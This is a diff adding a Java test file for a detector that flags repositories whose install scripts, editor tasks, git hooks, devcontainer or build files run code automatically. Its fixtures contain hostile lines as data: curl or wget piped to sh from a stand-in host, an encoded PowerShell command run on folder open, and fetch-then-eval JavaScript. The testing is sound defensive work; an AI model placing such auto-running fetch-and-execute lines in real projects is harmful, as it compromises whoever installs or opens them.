@@ -1,0 +1,132 @@
+package dev.bonafide.comparison.takehome;
+
+import dev.bonafide.comparison.Told;
+import dev.bonafide.comparison.ToldRepository;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.bonafide.check.Comparison;
+import dev.bonafide.check.Look;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+final class TakeHomeTest {
+  static final List<Comparison> ALL =
+      List.of(
+          new BlobRun(),
+          new FetchedAndRun(),
+          new FetchesItself(),
+          new HiddenCode(),
+          new PackageFromAddress(),
+          new PackageLookAlike(),
+          new StartsItself());
+
+  @Test
+  void without_a_repository_nothing_can_be_looked_at() {
+    for (Comparison one : ALL) {
+      assertThat(one.look(Told.call().end())).as(one.name()).isInstanceOf(Look.Blind.class);
+    }
+  }
+
+  @Test
+  void what_was_not_shown_is_unknown_and_not_clear() {
+    String cut = ToldRepository.of("a.js", "go()\n[cut: the file has 120000 bytes]").end();
+    String left = ToldRepository.of("a.js", "go()").end() + "\n[12 more files are not shown]\n";
+
+    for (Comparison one : ALL) {
+      assertThat(look(one, cut)).as(one.name()).isInstanceOf(Look.Blind.class);
+      assertThat(look(one, left)).as(one.name()).isInstanceOf(Look.Blind.class);
+    }
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '§',
+      quoteCharacter = '\0',
+      textBlock =
+          """
+          package.json § {"scripts": {"preinstall": "curl -fsSL https://x.example/i | bash"}}
+          package.json § {"scripts": {"\\u0070ostinstall": "node -e \\"require('child_process')\\""}}
+          package.json § {"scripts": {"prepare": "git config core.hooksPath .assets", "install": "sh -c \\"$(wget -qO- https://x.example)\\""}}
+          app/package.json § {"scripts": {"postinstall": "python3 -c 'exec(__import__(1))'"}}
+          .vscode/tasks.json § {"command": "node public/logo.svg", "runOptions": {"runOn": "folderOpen"}}
+          my.code-workspace § {"command": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "runOn": "folderOpen"}
+          .devcontainer/devcontainer.json § {"postCreateCommand": "wget -q https://x.example/s -O s && sh s"}
+          .git/config § fsmonitor = ./.assets/check
+          .git/hooks/post-checkout § curl -s https://x.example/s | sh
+          .husky/pre-commit § node assets/icon.woff2
+          .envrc § source <(curl -s https://x.example/env)
+          setup.py § os.system("curl https://x.example/a | sh")
+          build.rs § Command::new("sh").arg("-c").arg("curl https://x.example/a | sh");
+          build.gradle § "bash -c 'curl -s https://x.example | bash'".execute()
+          """)
+  void what_starts_by_itself_and_is_bad_is_seen(String path, String text) {
+    assertThat(look(new StartsItself(), ToldRepository.of(path, text).end()))
+        .isInstanceOf(Look.Seen.class);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '§',
+      quoteCharacter = '\0',
+      textBlock =
+          """
+          package.json § {"scripts": {"prepare": "husky", "postinstall": "prisma generate && patch-package"}}
+          package.json § {"scripts": {"postinstall": "node-gyp rebuild", "start": "curl -s https://x.example | sh"}}
+          package.json § {"scripts": {"postinstall": "electron-builder install-app-deps"}}
+          .vscode/tasks.json § {"command": "curl -s https://x.example/s | sh", "label": "by hand"}
+          .vscode/tasks.json § {"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}
+          .devcontainer/devcontainer.json § {"postCreateCommand": "curl -LsSf https://astral.sh/uv/install.sh | sh && uv sync"}
+          .devcontainer/devcontainer.json § {"postCreateCommand": "npm ci"}
+          .husky/pre-commit § npx lint-staged
+          .git/config § fsmonitor = true
+          .envrc § use flake
+          setup.py § setup(name="orders", packages=find_packages())
+          build.rs § println!("cargo:rerun-if-changed=proto/orders.proto");
+          README.md § curl -s https://x.example/s | sh
+          Makefile § install: ; curl -sSf https://sh.rustup.rs | sh
+          """)
+  void what_starts_by_itself_and_is_usual_is_left_alone(String path, String text) {
+    assertThat(look(new StartsItself(), ToldRepository.of(path, text).end()))
+        .isInstanceOf(Look.Nothing.class);
+  }
+
+  @Test
+  void an_installation_is_followed_through_files_to_what_it_does() {
+    String text =
+        ToldRepository.of("package.json", "{\"scripts\": {\"postinstall\": \"npm run setup\",")
+            .file("lib/sync.js", "const x = 1;\nfetch(u).then(r => r.text()).then(t => eval(t));")
+            .file("scripts/setup.js", "const sync = require('../lib/sync');\nsync();")
+            .end()
+            .replace("npm run setup\\\",", "npm run setup\",")
+            .replace("\"npm run setup\",", "\"npm run setup\", \"setup\": \"node scripts/setup\"");
+
+    assertThat(((Look.Seen) look(new StartsItself(), text)).evidence())
+        .extracting(one -> one.quote().contains("eval(t)") || one.quote().contains("postinstall"))
+        .contains(true);
+  }
+
+  @Test
+  void a_file_that_is_only_there_is_not_followed() {
+    String text =
+        ToldRepository.of("package.json", "{\"scripts\": {\"postinstall\": \"node copy.js\"}}")
+            .file("copy.js", "require('fs').cpSync('a', 'b');")
+            .file("lib/sync.js", "fetch(u).then(r => r.text()).then(t => eval(t));")
+            .end();
+
+    assertThat(look(new StartsItself(), text)).isInstanceOf(Look.Nothing.class);
+  }
+
+  @Test
+  void no_line_of_a_file_can_be_taken_for_another_file_by_its_own_list() {
+    String text = ToldRepository.of("a.js", "/*\n === README.md ===\n*/ eval(atob('x'))").end();
+
+    assertThat(look(new HiddenCode(), text)).isInstanceOf(Look.Seen.class);
+  }
+
+  static Look look(Comparison comparison, String repository) {
+    return comparison.look(Told.call().repository(repository).end());
+  }
+}
